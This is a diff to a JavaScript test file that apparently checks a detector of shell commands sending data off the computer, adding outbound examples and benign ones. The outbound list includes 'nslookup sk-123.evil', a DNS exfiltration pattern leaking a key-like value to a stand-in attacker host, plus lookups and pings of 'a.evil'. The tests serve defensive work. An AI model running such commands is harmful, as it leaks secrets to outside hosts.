@@ -13,6 +13,14 @@ const LEAVE = [
     'rsync a b:',
     'gh pr create',
     'open x',
+    'nslookup sk-123.evil',
+    'dig a.evil',
+    'ping -c1 a.evil',
+    'aria2c x',
+    'lynx x',
+    'openssl s_client -connect a:443',
+    'git clone x',
+    'git ls-remote x',
   ],
   ...[
     'git push',
@@ -149,7 +157,17 @@ const STAY = [
     'hg repush',
     'hg pushed',
   ],
-  ...['svn log', 'svn recommit', 'svn commits', 'svnw commit', 'constructor push', 'git'],
+  ...[
+    'svn log',
+    'svn recommit',
+    'svn commits',
+    'svnw commit',
+    'constructor push',
+    'git',
+    'openssl rand 8',
+    'git pull',
+    'git fetch',
+  ],
 ]
 
 describe('a program sends something from this computer', () => {
